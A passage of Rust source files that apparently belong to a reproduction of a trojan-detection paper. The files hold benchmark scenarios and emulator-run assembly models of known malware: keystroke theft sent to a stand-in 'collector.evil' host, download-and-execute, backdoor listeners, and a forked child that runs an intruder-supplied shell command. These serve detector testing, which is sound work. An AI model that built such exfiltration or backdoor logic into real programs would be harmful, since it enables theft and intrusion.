                self.accept_socket("srv", "edi");
                self.data(&format!("srv_rv: .long 0, {SCRATCH}, {DATA_LEN}, 0"));
                self.emit(
                    "    mov [srv_rv], edi\n\
                     \x20   mov eax, 102\n\
                     \x20   mov ebx, 10         ; recv\n\
                     \x20   mov ecx, srv_rv\n\
                     \x20   int 0x80",
                );
                SCRATCH.to_string()
            }
            FlowSource::Hardware => {
                self.emit(&format!(
                    "    cpuid\n\
                     \x20   mov [{SCRATCH}], eax\n\
                     \x20   mov [{SCRATCH}+4], ebx\n\
                     \x20   mov [{SCRATCH}+8], ecx"
                ));
                SCRATCH.to_string()
            }
            FlowSource::UserInput => {
                self.stdin.push(b"hunter2pass!".to_vec());
                self.emit(&format!(
                    "    mov eax, 3          ; read(stdin)\n\
                     \x20   mov ebx, 0\n\
                     \x20   mov ecx, {SCRATCH}\n\
                     \x20   mov edx, {DATA_LEN}\n\
                     \x20   int 0x80"
                ));
                SCRATCH.to_string()
            }
        }
    }

    /// Emits target acquisition leaving the fd in `esi`.
    fn target(&mut self, target: FlowTarget) {
        match target {
            FlowTarget::File(origin) => {
                self.file_name(origin, "drop.dat", "tpath");
                self.emit(
                    "    mov eax, 5          ; open(target, O_CREAT|O_WRONLY)\n\
                     \x20   mov ecx, 0x41\n\
                     \x20   int 0x80\n\
                     \x20   mov esi, eax",
                );
            }
            FlowTarget::Socket(origin) => {
                if self.want_data_peer_sends.is_none() {
                    self.want_data_peer_sends = Some(Vec::new());
                }
                match origin {
                    NameOrigin::User => self.connect_socket_user("tgt", PEER_IP, PEER_PORT, "esi"),
                    _ => self.connect_socket("tgt", PEER_IP, PEER_PORT, "esi"),
                }
            }
            FlowTarget::SocketServer => {
                if self.want_client.is_none() {
                    self.want_client = Some(Vec::new());
                }
                self.accept_socket("tsrv", "esi");
            }
        }
    }

    fn finish(mut self, buf: &str, target_is_socket: bool) -> (String, GenSetup) {
        if target_is_socket {
            self.data(&format!("wr_args: .long 0, {buf}, {DATA_LEN}, 0"));
            self.emit(
                "    mov [wr_args], esi\n\
                 \x20   mov eax, 102\n\
                 \x20   mov ebx, 9          ; send\n\
                 \x20   mov ecx, wr_args\n\
                 \x20   int 0x80",
            );
        } else {
            self.emit(&format!(
                "    mov eax, 4          ; write\n\
                 \x20   mov ebx, esi\n\
                 \x20   mov ecx, {buf}\n\
                 \x20   mov edx, {DATA_LEN}\n\
                 \x20   int 0x80"
            ));
        }
        self.emit("    mov eax, 1\n    mov ebx, 0\n    int 0x80");
        let program = format!("_start:\n    mov ebp, esp\n{}\n.data\n{}", self.code, self.data);
        (
            program,
            GenSetup {
                argv: self.argv,
                stdin: self.stdin,
                files: self.files,
                want_ctrl_peer: self.want_ctrl_peer,
                want_data_peer_sends: self.want_data_peer_sends,
                want_client: self.want_client,
            },
        )
    }
}

/// Environment the generated program needs.
#[derive(Clone, Debug)]
struct GenSetup {
    argv: Vec<String>,
    stdin: Vec<Vec<u8>>,
    files: Vec<(String, Vec<u8>)>,
    want_ctrl_peer: bool,
    want_data_peer_sends: Option<Vec<u8>>,
    want_client: Option<Vec<Vec<u8>>>,
}

impl GenSetup {
    fn apply(&self, session: &mut Session) {
        for chunk in &self.stdin {
            session.kernel.push_stdin(chunk.clone());
        }
        for (path, content) in &self.files {
            session.kernel.vfs.install(path.clone(), emukernel::FileNode::regular(content.clone()));
        }
        if self.want_ctrl_peer {
            session.kernel.net.add_host("ctrl.example", CTRL_IP);
            session.kernel.net.add_peer(
                Endpoint { ip: CTRL_IP, port: CTRL_PORT },
                Peer { on_connect: vec![b"dropzone.dat\0".to_vec()], ..Peer::default() },
            );
        }
        if let Some(sends) = &self.want_data_peer_sends {
            session.kernel.net.add_host("peer.example", PEER_IP);
            let on_connect = if sends.is_empty() { Vec::new() } else { vec![sends.clone()] };
            session.kernel.net.add_peer(
                Endpoint { ip: PEER_IP, port: PEER_PORT },
                Peer { on_connect, ..Peer::default() },
            );
        }
        if let Some(sends) = &self.want_client {
            session.kernel.net.add_host("gateway", 0xc0a8_0105);
            session.kernel.net.queue_client(
                SERVE_PORT,
                RemoteClient {
                    from: Endpoint { ip: 0xc0a8_0105, port: 37047 },
                    sends: sends.clone().into(),
                    received: Vec::new(),
                },
            );
        }
    }
}

/// Builds one Table 6 scenario.
fn flow_scenario(
    id: &'static str,
    description: &'static str,
    source: FlowSource,
    target: FlowTarget,
    expected: Expectation,
    paper_note: &'static str,
) -> Scenario {
    Scenario {
        id,
        group: Group::InfoFlow,
        description,
        paper_note,
        expected,
        setup: Box::new(move |session: &mut Session| {
            let mut gen = Gen::default();
            let buf = gen.source(source);
            gen.target(target);
            let target_is_socket =
                matches!(target, FlowTarget::Socket(_) | FlowTarget::SocketServer);
            let (program, setup) = gen.finish(&buf, target_is_socket);
            setup.apply(session);
            session.kernel.register_binary("/bench/flow", &program, &[]);
            let mut start = StartSpec::plain("/bench/flow");
            for arg in &setup.argv {
                start = start.arg(arg.clone());
            }
            start
        }),
    }
}

/// All Table 6 scenarios.
pub fn scenarios() -> Vec<Scenario> {
    use Expectation::{Silent, Warn, WarnAtLeast};
    use FlowSource as S;
    use FlowTarget as T;
    use NameOrigin::{Hardcoded as H, Remote as R, User as U};
    use Severity::{High, Low, Medium};

    vec![
        // Binary → File.
        flow_scenario(
            "binary_to_file_user",
            "hardcoded data written to a user-named file",
            S::Binary,
            T::File(U),
            Silent,
            "correctly classified (trusted behaviour)",
        ),
        flow_scenario(
            "binary_to_file_hard",
            "hardcoded data written to a hardcoded-name file",
            S::Binary,
            T::File(H),
            Warn(High),
            "malicious: the dropper pattern",
        ),
        flow_scenario(
            "binary_to_file_remote",
            "hardcoded data written to a file named by a remote host",
            S::Binary,
            T::File(R),
            WarnAtLeast(High),
            "malicious: remote party chooses the drop location",
        ),
        // Binary → Socket.
        flow_scenario(
            "binary_to_socket_user",
            "hardcoded data sent to a user-given address",
            S::Binary,
            T::Socket(U),
            Silent,
            "correctly classified (user directed the send)",
        ),
        flow_scenario(
            "binary_to_socket_hard",
            "hardcoded data sent to a hardcoded address",
            S::Binary,
            T::Socket(H),
            Warn(Low),
            "the beacon pattern (paper's pwsafe warnings were Low)",
        ),
        // File → File.
        flow_scenario(
            "file_to_file_user_user",
            "user-named file copied to a user-named file",
            S::File(U),
            T::File(U),
            Silent,
            "cp(1): trusted",
        ),
        flow_scenario(
            "file_to_file_user_hard",
            "user-named file copied to a hardcoded-name file",
            S::File(U),
            T::File(H),
            Warn(Low),
            "suspicious fixed destination",
        ),
        flow_scenario(
            "file_to_file_hard_user",
            "hardcoded-name file copied to a user-named file",
            S::File(H),
            T::File(U),
            Warn(Low),
            "suspicious fixed source",
        ),
        flow_scenario(
            "file_to_file_hard_hard",
            "hardcoded-name file copied to a hardcoded-name file",
            S::File(H),
            T::File(H),
            Warn(Medium),
            "self-contained copy, no user in the loop",
        ),
        // File → Socket.
        flow_scenario(
            "file_to_socket_user_user",
            "user-named file sent to a user-given address",
            S::File(U),
            T::Socket(U),
            Silent,
            "scp-like: trusted",
        ),
        flow_scenario(
            "file_to_socket_user_hard",
            "user-named file sent to a hardcoded address",
            S::File(U),
            T::Socket(H),
            Warn(Low),
            "paper §4.3 rule 1: Low",
        ),
        flow_scenario(
            "file_to_socket_hard_user",
            "hardcoded-name file sent to a user-given address",
            S::File(H),
            T::Socket(U),
            Warn(Low),
            "paper §4.3 rule 1: Low",
        ),
        flow_scenario(
            "file_to_socket_hard_hard",
            "hardcoded-name file sent to a hardcoded address",
            S::File(H),
            T::Socket(H),
            Warn(High),
            "paper §4.3 rule 1: High — exfiltration",
        ),
        flow_scenario(
            "file_to_socket_hard_hard_server",
            "hardcoded-name file served over a hardcoded listening socket",
            S::File(H),
            T::SocketServer,
            WarnAtLeast(High),
            "server variant (paper ran socket tests twice)",
        ),
        // Socket → File.
        flow_scenario(
            "socket_to_file_user_user",
            "download from a user-given address into a user-named file",
            S::Socket(U),
            T::File(U),
            Silent,
            "wget-like: trusted",
        ),
        flow_scenario(
            "socket_to_file_user_hard",
            "download from a user-given address into a hardcoded file",
            S::Socket(U),
            T::File(H),
            Warn(Low),
            "fixed drop location",
        ),
        flow_scenario(
            "socket_to_file_hard_user",
            "download from a hardcoded address into a user-named file",
            S::Socket(H),
            T::File(U),
            Silent,
            "curl-with-default-mirror: tolerated",
        ),
        flow_scenario(
            "socket_to_file_hard_hard",
            "download from a hardcoded address into a hardcoded file",
            S::Socket(H),
            T::File(H),
            Warn(High),
            "the download-and-store pattern",
        ),
        flow_scenario(
            "socket_to_file_hard_hard_server",
            "accepted-connection data written into a hardcoded file",
            S::SocketServer,
            T::File(H),
            WarnAtLeast(High),
            "server variant: pma's socket→inpipe flow",
        ),
        // Hardware → File.
        flow_scenario(
            "hardware_to_file_user",
            "cpuid output written to a user-named file",
            S::Hardware,
            T::File(U),
            Silent,
            "user asked for the report",
        ),
        flow_scenario(
            "hardware_to_file_hard",
            "cpuid output written to a hardcoded-name file",
            S::Hardware,
            T::File(H),
            Warn(High),
            "paper §4.3 rule 2: fingerprinting",
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table6_all_correctly_classified() {
        let mut failures = Vec::new();
        for scenario in scenarios() {
            let result = scenario.run().unwrap();
            if !result.correct() {
                failures.push(format!(
                    "{}: expected {:?}, got {:?} (rules {:?})\n{}",
                    scenario.id,
                    scenario.expected,
                    result.max_severity(),
                    result.rules_fired(),
                    result.transcript,
                ));
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n---\n"));
    }

    #[test]
    fn matrix_covers_paper_rows() {
        let ids: Vec<&str> = scenarios().iter().map(|s| s.id).collect();
        assert_eq!(ids.len(), 21);
        assert!(ids.contains(&"binary_to_file_remote"));
        assert!(ids.contains(&"socket_to_file_hard_hard_server"));
        assert!(ids.contains(&"hardware_to_file_hard"));
    }
}
