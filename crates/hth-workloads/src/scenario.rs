//! The scenario framework: every paper benchmark is a [`Scenario`] —
//! a program (plus environment setup) with an expected classification.

use hth_core::{RunReport, Session, SessionConfig, SessionError, Severity, Warning};

/// Which evaluation table/section a scenario belongs to.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Group {
    /// Table 4 — execution-flow micro-benchmarks.
    ExecFlow,
    /// Table 5 — resource-abuse micro-benchmarks.
    ResourceAbuse,
    /// Table 6 — information-flow micro-benchmarks.
    InfoFlow,
    /// Table 7 — trusted programs (false-positive study).
    Trusted,
    /// Table 8 — real exploits.
    Exploit,
    /// §8.4 — macro benchmarks.
    Macro,
    /// §10 — future-work extensions implemented by this reproduction.
    Extension,
}

impl Group {
    /// Human-readable table reference.
    pub fn table(&self) -> &'static str {
        match self {
            Group::ExecFlow => "Table 4",
            Group::ResourceAbuse => "Table 5",
            Group::InfoFlow => "Table 6",
            Group::Trusted => "Table 7",
            Group::Exploit => "Table 8",
            Group::Macro => "Section 8.4",
            Group::Extension => "Section 10 (extensions)",
        }
    }
}

/// Expected classification of a scenario.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Expectation {
    /// No warnings at all (correctly classified as benign).
    Silent,
    /// Maximum severity equals this level.
    Warn(Severity),
    /// Maximum severity is at least this level.
    WarnAtLeast(Severity),
    /// Specific rules must all fire (and at least the given severity).
    Rules(Severity, &'static [&'static str]),
}

/// What to run after setup.
#[derive(Clone, Debug)]
pub struct StartSpec {
    /// Registered binary path.
    pub path: &'static str,
    /// Command line (argv\[0\] first).
    pub argv: Vec<String>,
    /// Environment variables.
    pub env: Vec<(String, String)>,
}

impl StartSpec {
    /// A start spec with only argv\[0\].
    pub fn plain(path: &'static str) -> StartSpec {
        StartSpec { path, argv: vec![path.to_string()], env: Vec::new() }
    }

    /// Appends an argument.
    #[must_use]
    pub fn arg(mut self, arg: impl Into<String>) -> StartSpec {
        self.argv.push(arg.into());
        self
    }

    /// Appends an environment variable.
    #[must_use]
    pub fn env(mut self, key: impl Into<String>, value: impl Into<String>) -> StartSpec {
        self.env.push((key.into(), value.into()));
        self
    }
}

/// A reproducible benchmark scenario.
pub struct Scenario {
    /// Short identifier (paper row name).
    pub id: &'static str,
    /// Which table it reproduces.
    pub group: Group,
    /// What the scenario models.
    pub description: &'static str,
    /// What the paper reports for this row.
    pub paper_note: &'static str,
    /// Expected classification in this reproduction.
    pub expected: Expectation,
    /// Registers binaries/files/peers/stdin and says what to start.
    pub setup: Box<dyn Fn(&mut Session) -> StartSpec + Send + Sync>,
}

/// Outcome of running one scenario.
#[derive(Debug)]
pub struct ScenarioResult {
    /// Scenario id.
    pub id: &'static str,
    /// Warnings issued.
    pub warnings: Vec<Warning>,
    /// Execution report.
    pub report: RunReport,
    /// Paper-style warning transcript.
    pub transcript: String,
    /// Number of Harrier events processed.
    pub events: usize,
    /// The expectation the result is judged against.
    pub expected: Expectation,
}

impl ScenarioResult {
    /// Highest severity seen.
    pub fn max_severity(&self) -> Option<Severity> {
        self.warnings.iter().map(|w| w.severity).max()
    }

    /// Names of the rules that fired (deduplicated, ordered).
    pub fn rules_fired(&self) -> Vec<&str> {
        let mut rules: Vec<&str> = self.warnings.iter().map(|w| w.rule.as_str()).collect();
        rules.sort_unstable();
        rules.dedup();
        rules
    }

    /// True when the outcome matches the expectation.
    pub fn correct(&self) -> bool {
        match &self.expected {
            Expectation::Silent => self.warnings.is_empty(),
            Expectation::Warn(sev) => self.max_severity() == Some(*sev),
            Expectation::WarnAtLeast(sev) => self.max_severity() >= Some(*sev),
            Expectation::Rules(sev, rules) => {
                self.max_severity() >= Some(*sev)
                    && rules.iter().all(|r| self.warnings.iter().any(|w| w.rule == *r))
            }
        }
    }
}

impl Scenario {
    /// Runs the scenario under the default session configuration.
    ///
    /// # Errors
    ///
    /// Propagates session errors (policy bugs, unknown binaries) —
    /// workload faults are part of the result, not errors.
    pub fn run(&self) -> Result<ScenarioResult, SessionError> {
        self.run_with(SessionConfig::default())
    }

    /// Runs the scenario under a custom configuration.
    ///
    /// # Errors
    ///
    /// Propagates session errors.
    pub fn run_with(&self, config: SessionConfig) -> Result<ScenarioResult, SessionError> {
        let mut session = Session::new(config)?;
        let start = (self.setup)(&mut session);
        let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
        let env: Vec<(&str, &str)> =
            start.env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        session.start(start.path, &argv, &env)?;
        let report = session.run()?;
        let events = session.events().len();
        let warnings = session.warnings().to_vec();
        let transcript = session.take_transcript();
        Ok(ScenarioResult {
            id: self.id,
            warnings,
            report,
            transcript,
            events,
            expected: self.expected.clone(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn expectation_judging() {
        let base = ScenarioResult {
            id: "x",
            warnings: vec![Warning {
                severity: Severity::Low,
                rule: "check_execve".into(),
                pid: 1,
                time: 0,
                message: String::new(),
                provenance: None,
            }],
            report: RunReport::default(),
            transcript: String::new(),
            events: 1,
            expected: Expectation::Warn(Severity::Low),
        };
        assert!(base.correct());
        let silent_expected =
            ScenarioResult { expected: Expectation::Silent, warnings: vec![], ..base };
        assert!(silent_expected.correct());
    }
}
