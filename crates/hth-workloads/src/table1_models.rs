//! Behavioural models of the §2.1 / Table 1 real-world malware.
//!
//! The paper catalogues nine Windows-era Trojans/worms but evaluates HTH
//! on Unix exploits; these scenarios close the loop by modelling three
//! representative Table 1 specimens on this substrate, exhibiting the
//! exact behaviours the paper's prose describes — and checking HTH flags
//! each one.

use emukernel::{Endpoint, Peer, RemoteClient};
use hth_core::{Session, Severity};

use crate::scenario::{Expectation, Group, Scenario, StartSpec};

/// The modelled Table 1 specimens.
pub fn scenarios() -> Vec<Scenario> {
    vec![pwsteal_tarno(), trojan_lodeight(), mytob(), sendmail_trojan(), tcp_wrappers_trojan()]
}

/// PWSteal.Tarno.Q (§2.1 example 1): "captures keystrokes and web forms
/// submitted … stores the information in several predefined files. Then
/// the Trojan sends a unique ID (of the compromised computer) to the
/// attacker … and periodically sends the collected information to a
/// predefined url."
fn pwsteal_tarno() -> Scenario {
    Scenario {
        id: "PWSteal.Tarno.Q",
        group: Group::Extension,
        description: "password stealer: keystrokes → predefined file → predefined url, \
                      plus a hardware-derived unique ID sent home",
        paper_note: "Table 1: no user intervention + hardcoded resources",
        expected: Expectation::Rules(
            Severity::High,
            &["flow_user_to_file", "flow_hardware_to_socket", "flow_file_to_socket"],
        ),
        setup: Box::new(|session: &mut Session| {
            session.kernel.push_stdin(b"bank-password".to_vec());
            session.kernel.net.add_host("collector.evil", 0x0b00_0001);
            session.kernel.net.add_peer(Endpoint { ip: 0x0b00_0001, port: 80 }, Peer::default());
            session.kernel.register_binary(
                "/models/tarno",
                r#"
                .equ KEYS,  0x09000000
                .equ HWID,  0x09000100
                .equ LOOT,  0x09000200
                _start:
                    ; capture "web form" keystrokes
                    mov eax, 3
                    mov ebx, 0
                    mov ecx, KEYS
                    mov edx, 13
                    int 0x80
                    ; store them in the predefined file
                    mov eax, 5
                    mov ebx, logfile
                    mov ecx, 0x41
                    int 0x80
                    mov esi, eax
                    mov eax, 4
                    mov ebx, esi
                    mov ecx, KEYS
                    mov edx, 13
                    int 0x80
                    mov eax, 6
                    mov ebx, esi
                    int 0x80
                    ; unique machine ID from the hardware
                    cpuid
                    mov [HWID], eax
                    mov [HWID+4], ebx
                    ; connect to the predefined collection point
                    mov eax, 102
                    mov ebx, 1
                    mov ecx, sockargs
                    int 0x80
                    mov edi, eax
                    mov [connargs], edi
                    mov eax, 102
                    mov ebx, 3
                    mov ecx, connargs
                    int 0x80
                    ; send the unique ID
                    mov [send_id], edi
                    mov eax, 102
                    mov ebx, 9
                    mov ecx, send_id
                    int 0x80
                    ; "periodically" send the collected file
                    mov eax, 5
                    mov ebx, logfile
                    mov ecx, 0
                    int 0x80
                    mov esi, eax
                    mov eax, 3
                    mov ebx, esi
                    mov ecx, LOOT
                    mov edx, 13
                    int 0x80
                    mov [send_loot], edi
                    mov eax, 102
                    mov ebx, 9
                    mov ecx, send_loot
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                logfile:   .asciz ".tarno/forms.dat"
                sockargs:  .long 2, 1, 0
                addr:      .word 2
                port:      .word 80
                ip:        .long 0x0b000001
                connargs:  .long 0, addr, 8
                send_id:   .long 0, 0x09000100, 8, 0
                send_loot: .long 0, 0x09000200, 13, 0
                "#,
                &[],
            );
            StartSpec::plain("/models/tarno")
        }),
    }
}

/// Trojan.Lodeight.A (§2.1 example 2): "connects to one of two
/// predefined websites and downloads a remote file and executes it …
/// Then this Trojan opens a Backdoor on a TCP port 1084."
fn trojan_lodeight() -> Scenario {
    Scenario {
        id: "Trojan.Lodeight.A",
        group: Group::Extension,
        description: "downloads an executable from a predefined site, runs it, \
                      then opens a backdoor on port 1084",
        paper_note: "Table 1: remotely directed + hardcoded resources",
        expected: Expectation::Rules(
            Severity::High,
            &[
                "flow_socket_to_file",
                "flow_executable_download",
                "check_execve",
                "check_backdoor_server",
            ],
        ),
        setup: Box::new(|session: &mut Session| {
            session.kernel.net.add_host("update.lodeight.example", 0x0c00_0001);
            session.kernel.net.add_peer(
                Endpoint { ip: 0x0c00_0001, port: 80 },
                Peer {
                    // The downloaded body is an executable (ELF magic).
                    on_connect: vec![b"\x7fELF-beagle-worm".to_vec()],
                    ..Peer::default()
                },
            );
            session.kernel.net.add_host("attacker", 0xc0a8_0909);
            session.kernel.net.queue_client(
                1084,
                RemoteClient {
                    from: Endpoint { ip: 0xc0a8_0909, port: 40000 },
                    sends: [b"run\n".to_vec()].into(),
                    received: Vec::new(),
                },
            );
            session.kernel.register_binary(
                "/models/lodeight",
                r#"
                .equ BODY, 0x09000000
                _start:
                    ; download from the predefined website
                    mov eax, 102
                    mov ebx, 1
                    mov ecx, sockargs
                    int 0x80
                    mov edi, eax
                    mov [connargs], edi
                    mov eax, 102
                    mov ebx, 3
                    mov ecx, connargs
                    int 0x80
                    mov [recvargs], edi
                    mov eax, 102
                    mov ebx, 10
                    mov ecx, recvargs
                    int 0x80
                    ; drop the payload
                    mov eax, 5
                    mov ebx, dropname
                    mov ecx, 0x41
                    int 0x80
                    mov esi, eax
                    mov eax, 4
                    mov ebx, esi
                    mov ecx, BODY
                    mov edx, 16
                    int 0x80
                    mov eax, 6
                    mov ebx, esi
                    int 0x80
                    ; execute it
                    mov eax, 11
                    mov ebx, dropname
                    int 0x80
                    ; open the backdoor on port 1084
                    mov eax, 102
                    mov ebx, 1
                    mov ecx, sockargs2
                    int 0x80
                    mov esi, eax
                    mov [bindargs], esi
                    mov eax, 102
                    mov ebx, 2
                    mov ecx, bindargs
                    int 0x80
                    mov [listenargs], esi
                    mov eax, 102
                    mov ebx, 4
                    mov ecx, listenargs
                    int 0x80
                    mov [acceptargs], esi
                    mov eax, 102
                    mov ebx, 5
                    mov ecx, acceptargs
                    int 0x80
                    mov edi, eax
                    ; acknowledge the attacker (transfer over the backdoor)
                    mov [sendargs], edi
                    mov eax, 102
                    mov ebx, 9
                    mov ecx, sendargs
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                dropname:   .asciz "bgl.exe"
                banner:     .asciz "lodeight-ready"
                sockargs:   .long 2, 1, 0
                waddr:      .word 2
                wport:      .word 80
                wip:        .long 0x0c000001
                connargs:   .long 0, waddr, 8
                recvargs:   .long 0, 0x09000000, 16, 0
                sockargs2:  .long 2, 1, 0
                baddr:      .word 2
                bport:      .word 1084
                bip:        .long 0
                bindargs:   .long 0, baddr, 8
                listenargs: .long 0, 1
                acceptargs: .long 0, 0, 0
                sendargs:   .long 0, banner, 14, 0
                "#,
                &[],
            );
            StartSpec::plain("/models/lodeight")
        }),
    }
}

/// W32.Mytob.J@mm (§2.1 example 3): "copies itself to a system folder …
/// collects email addresses and sends itself to some of those addresses
/// … starts an FTP server … and listens for commands".
fn mytob() -> Scenario {
    Scenario {
        id: "W32.Mytob.J@mm",
        group: Group::Extension,
        description: "mass mailer: self-copy to a system path, harvest the address \
                      book, mail itself out, listen for commands",
        paper_note: "Table 1: all four behaviour columns",
        expected: Expectation::Rules(
            Severity::High,
            &["flow_binary_to_file", "flow_file_to_socket", "check_backdoor_server"],
        ),
        setup: Box::new(|session: &mut Session| {
            session.kernel.vfs.install(
                "/home/user/addressbook",
                emukernel::FileNode::regular(b"alice@example;bob@example".to_vec()),
            );
            session.kernel.net.add_host("smtp.example", 0x0d00_0001);
            session.kernel.net.add_peer(Endpoint { ip: 0x0d00_0001, port: 25 }, Peer::default());
            session.kernel.net.queue_client(
                10027,
                RemoteClient {
                    from: Endpoint { ip: 0xc0a8_0777, port: 50000 },
                    sends: [b"GETFILE\n".to_vec()].into(),
                    received: Vec::new(),
                },
            );
            session.kernel.register_binary(
                "/models/mytob",
                r#"
                .equ ADDRS, 0x09000000
                _start:
                    ; copy itself to the "system folder" (hardcoded bytes
                    ; standing in for its own image)
                    mov eax, 5
                    mov ebx, syscopy
                    mov ecx, 0x41
                    int 0x80
                    mov esi, eax
                    mov eax, 4
                    mov ebx, esi
                    mov ecx, selfbytes
                    mov edx, 18
                    int 0x80
                    mov eax, 6
                    mov ebx, esi
                    int 0x80
                    ; harvest the address book (hardcoded path)
                    mov eax, 5
                    mov ebx, abook
                    mov ecx, 0
                    int 0x80
                    mov esi, eax
                    mov eax, 3
                    mov ebx, esi
                    mov ecx, ADDRS
                    mov edx, 24
                    int 0x80
                    ; mail the harvest to the hardcoded SMTP relay
                    mov eax, 102
                    mov ebx, 1
                    mov ecx, sockargs
                    int 0x80
                    mov edi, eax
                    mov [connargs], edi
                    mov eax, 102
                    mov ebx, 3
                    mov ecx, connargs
                    int 0x80
                    mov [sendargs], edi
                    mov eax, 102
                    mov ebx, 9
                    mov ecx, sendargs
                    int 0x80
                    ; command channel: listen and answer the attacker
                    mov eax, 102
                    mov ebx, 1
                    mov ecx, sockargs2
                    int 0x80
                    mov esi, eax
                    mov [bindargs], esi
                    mov eax, 102
                    mov ebx, 2
                    mov ecx, bindargs
                    int 0x80
                    mov [listenargs], esi
                    mov eax, 102
                    mov ebx, 4
                    mov ecx, listenargs
                    int 0x80
                    mov [acceptargs], esi
                    mov eax, 102
                    mov ebx, 5
                    mov ecx, acceptargs
                    int 0x80
                    mov edi, eax
                    mov [cmdsend], edi
                    mov eax, 102
                    mov ebx, 9
                    mov ecx, cmdsend
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                syscopy:    .asciz "/windows/system/mytob.exe"
                selfbytes:  .asciz "MZ-mytob-self-copy"
                abook:      .asciz "/home/user/addressbook"
                sockargs:   .long 2, 1, 0
                saddr:      .word 2
                sport:      .word 25
                sip:        .long 0x0d000001
                connargs:   .long 0, saddr, 8
                sendargs:   .long 0, 0x09000000, 24, 0
                sockargs2:  .long 2, 1, 0
                baddr:      .word 2
                bport:      .word 10027
                bip:        .long 0
                bindargs:   .long 0, baddr, 8
                listenargs: .long 0, 1
                acceptargs: .long 0, 0, 0
                ok:         .asciz "220 ok"
                cmdsend:    .long 0, ok, 6, 0
                "#,
                &[],
            );
            StartSpec::plain("/models/mytob")
        }),
    }
}

/// Sendmail Trojan (§2.1 example 8): "The Trojan forks a process that
/// connects to a fixed remote server on port 6667. The forked process
/// allows an intruder to open a shell running as the user who built the
/// Sendmail software."
fn sendmail_trojan() -> Scenario {
    Scenario {
        id: "Sendmail Trojan",
        group: Group::Extension,
        description: "build-time trojan: forks a child that connects to a fixed                       server and executes whatever the intruder names",
        paper_note: "Table 1: remotely directed + hardcoded resources (CERT CA-2002-28)",
        expected: Expectation::Rules(Severity::High, &["check_execve"]),
        setup: Box::new(|session: &mut Session| {
            session.kernel.net.add_host("aclue.com", 0x0e00_0001);
            session.kernel.net.add_peer(
                Endpoint { ip: 0x0e00_0001, port: 6667 },
                Peer {
                    // The intruder's first command: run a shell.
                    on_connect: vec![b"/bin/sh ".to_vec()],
                    ..Peer::default()
                },
            );
            session.kernel.register_binary(
                "/models/sendmail-build",
                r#"
                .equ CMD, 0x09000000
                _start:
                    ; the "build" does some normal-looking work
                    mov eax, 5
                    mov ebx, makefile
                    mov ecx, 0
                    int 0x80
                    ; ... then the trojaned build script forks
                    mov eax, 2
                    int 0x80
                    cmp eax, 0
                    je intruder_shell
                    mov eax, 1          ; parent: the build "finishes"
                    mov ebx, 0
                    int 0x80
                intruder_shell:
                    ; child: connect to the fixed server on port 6667
                    mov eax, 102
                    mov ebx, 1
                    mov ecx, sockargs
                    int 0x80
                    mov edi, eax
                    mov [connargs], edi
                    mov eax, 102
                    mov ebx, 3
                    mov ecx, connargs
                    int 0x80
                    ; receive the intruder's command and execute it
                    mov [recvargs], edi
                    mov eax, 102
                    mov ebx, 10
                    mov ecx, recvargs
                    int 0x80
                    mov eax, 11
                    mov ebx, CMD
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                makefile: .asciz "Makefile"
                sockargs: .long 2, 1, 0
                addr:     .word 2
                port:     .word 6667
                ip:       .long 0x0e000001
                connargs: .long 0, addr, 8
                recvargs: .long 0, 0x09000000, 64, 0
                "#,
                &[],
            );
            StartSpec::plain("/models/sendmail-build")
        }),
    }
}

/// TCP Wrappers Trojan (§2.1 example 9): "provide root access to
/// intruders who are initiating connections with a source port of 421.
/// Also, upon compilation … this Trojan horse sends email to an external
/// address [with] information obtained from running the commands whoami
/// and uname -a."
fn tcp_wrappers_trojan() -> Scenario {
    Scenario {
        id: "TCP Wrappers Trojan",
        group: Group::Extension,
        description: "backdoor on port 421 plus fingerprint email (uname-like                       hardware info to a fixed address)",
        paper_note: "Table 1: remotely directed + hardcoded resources (CERT CA-1999-01)",
        expected: Expectation::Rules(
            Severity::High,
            &["flow_hardware_to_socket", "check_backdoor_server"],
        ),
        setup: Box::new(|session: &mut Session| {
            session.kernel.net.add_host("mailhost.example", 0x0f00_0001);
            session
                .kernel
                .net
                .add_peer(Endpoint { ip: 0x0f00_0001, port: 25 }, Peer::default());
            session.kernel.net.queue_client(
                421,
                RemoteClient {
                    from: Endpoint { ip: 0xc0a8_0406, port: 421 },
                    sends: [b"id
".to_vec()].into(),
                    received: Vec::new(),
                },
            );
            session.kernel.register_binary(
                "/models/tcpd",
                r#"
                .equ INFO, 0x09000000
                _start:
                    ; gather identifying info (the uname -a analogue)
                    cpuid
                    mov [INFO], eax
                    mov [INFO+4], ebx
                    mov [INFO+8], edx
                    ; email it to the hardcoded external address
                    mov eax, 102
                    mov ebx, 1
                    mov ecx, sockargs
                    int 0x80
                    mov edi, eax
                    mov [connargs], edi
                    mov eax, 102
                    mov ebx, 3
                    mov ecx, connargs
                    int 0x80
                    mov [mailargs], edi
                    mov eax, 102
                    mov ebx, 9
                    mov ecx, mailargs
                    int 0x80
                    ; the port-421 backdoor: accept the intruder and answer
                    mov eax, 102
                    mov ebx, 1
                    mov ecx, sockargs2
                    int 0x80
                    mov esi, eax
                    mov [bindargs], esi
                    mov eax, 102
                    mov ebx, 2
                    mov ecx, bindargs
                    int 0x80
                    mov [listenargs], esi
                    mov eax, 102
                    mov ebx, 4
                    mov ecx, listenargs
                    int 0x80
                    mov [acceptargs], esi
                    mov eax, 102
                    mov ebx, 5
                    mov ecx, acceptargs
                    int 0x80
                    mov edi, eax
                    mov [rootsend], edi
                    mov eax, 102        ; grant the "root shell" banner
                    mov ebx, 9
                    mov ecx, rootsend
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                sockargs:   .long 2, 1, 0
                maddr:      .word 2
                mport:      .word 25
                mip:        .long 0x0f000001
                connargs:   .long 0, maddr, 8
                mailargs:   .long 0, 0x09000000, 12, 0
                sockargs2:  .long 2, 1, 0
                baddr:      .word 2
                bport:      .word 421
